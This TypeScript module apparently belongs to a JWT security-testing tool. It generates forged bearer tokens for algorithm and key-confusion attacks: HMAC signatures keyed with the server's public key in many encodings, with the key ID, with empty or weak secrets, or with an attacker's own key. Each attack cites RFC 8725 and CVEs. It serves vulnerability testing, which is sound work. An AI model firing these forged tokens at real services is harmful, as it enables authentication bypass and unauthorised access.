import { createPublicKey, type KeyObject } from 'node:crypto';
import type { Attack, AttackContext } from '../attack.ts';
import { signatureOf, signedToken, tokenOf } from '../forge.ts';
import { bearerAttack } from '../requests.ts';

type Secrets = (context: AttackContext) => (Buffer | string)[];

/** Tokens with an HMAC in place of the signature, for each of the secrets and each of the digests. */
const hmacAttack = (id: string, title: string, why: string, secrets: Secrets): Attack =>
  bearerAttack(`hmac-${id}`, `a token whose HMAC secret is ${title}`, why, (context) =>
    secrets(context).flatMap((secret) =>
      (['HS256', 'HS384', 'HS512'] as const).map((algorithm) =>
        tokenOf(context, algorithm, Buffer.from(secret)),
      ),
    ),
  );

const pem = (key: KeyObject, type: 'spki' | 'pkcs1'): string =>
  key.export({ type, format: 'pem' }).toString();
const der = (key: KeyObject, type: 'spki' | 'pkcs1'): Buffer => key.export({ type, format: 'der' });

/** The variants of a PEM file's text that a program may use as a secret. */
const pemVariants = (text: string): string[] => [
  text,
  text.trim(),
  `\n${text}`,
  text.replaceAll('\n', '\r\n'),
  text.replaceAll(/-----[^-]+-----|\n/g, ''),
];

export const KEY_CONFUSION_ATTACKS: readonly Attack[] = [
  hmacAttack(
    'pem-spki',
    'the public key in PEM (SPKI)',
    'Redis e-book ch. 3, criticism 2; RFC 8725 §2.1; CVE-2015-9235; CVE-2026-34950',
    ({ publicKey }) => pemVariants(pem(publicKey, 'spki')),
  ),
  hmacAttack(
    'pem-pkcs1',
    'the public key in PEM (PKCS #1)',
    'Redis e-book ch. 3, criticism 2; CVE-2017-11424; CVE-2023-48223',
    ({ publicKey }) => pemVariants(pem(publicKey, 'pkcs1')),
  ),
  hmacAttack(
    'der',
    'the public key in DER (SPKI or PKCS #1)',
    'Redis e-book ch. 3, criticism 2; CVE-2016-10555',
    ({ publicKey }) => [der(publicKey, 'spki'), der(publicKey, 'pkcs1')],
  ),
  hmacAttack('jwk', 'the public key as a JWK', 'RFC 8725 §2.1; CVE-2026-48526', ({ publicKey, live }) => {
    const { kty, n, e } = publicKey.export({ format: 'jwk' });
    return [
      JSON.stringify({ kty, n, e }),
      JSON.stringify({ e, kty, n }),
      JSON.stringify({ kty, n, e, kid: live.kid, alg: 'PS256', use: 'sig' }),
    ];
  }),
  hmacAttack('jwks', 'the published key set, byte for byte', 'RFC 8725 §2.1', ({ keySetText }) => [
    keySetText,
  ]),
  hmacAttack('modulus', "the public key's modulus", 'RFC 8725 §2.1, §3.5', ({ publicKey }) => {
    const { n = '' } = publicKey.export({ format: 'jwk' });
    const bytes = Buffer.from(n, 'base64url');
    return [n, bytes, bytes.toString('hex'), bytes.toString('base64')];
  }),
  hmacAttack('kid', 'the kid', 'RFC 8725 §3.5', ({ live }) => [live.kid, Buffer.from(live.kid, 'base64url')]),
  hmacAttack('empty', 'empty or all zeros', 'RFC 8725 §3.5; CVE-2019-20933', () => [
    '',
    Buffer.alloc(32),
    '\0',
  ]),
  hmacAttack('weak', 'a common weak secret', 'RFC 8725 §2.2, §3.5', ({ live }) => [
    'secret',
    'your-256-bit-secret',
    'changeme',
    'key',
    'null',
    'undefined',
    'portcullis',
    String(live.claims.iss),
  ]),
  hmacAttack(
    'foreign-public-key',
    "the attacker's own public key",
    'RFC 8725 §2.1; CVE-2022-29217',
    ({ attackerKeys }) =>
      [attackerKeys.rsa, attackerKeys.ed25519].map((key) => pem(createPublicKey(key), 'spki')),
  ),
  bearerAttack(
    'hmac-labeled-ps256',
    'a token whose HMAC secret is the public key, while its header names PS256',
    'RFC 8725 §3.1',
    (context) =>
      (['spki', 'pkcs1'] as const).map((type) =>
        signedToken(context, { algorithm: 'HS256', key: Buffer.from(pem(context.publicKey, type)) }),
      ),
  ),
  bearerAttack(
    'hmac-of-live-token',
    'a live token with an HMAC keyed by its own signature in place of the signature',
    'RFC 8725 §3.3',
    ({ live: { header, payload, signature } }) => {
      const key = Buffer.from(signature, 'base64url');
      const mac = signatureOf(`${header}.${payload}`, { algorithm: 'HS256', key });
      return [`${header}.${payload}.${mac}`];
    },
  ),
];
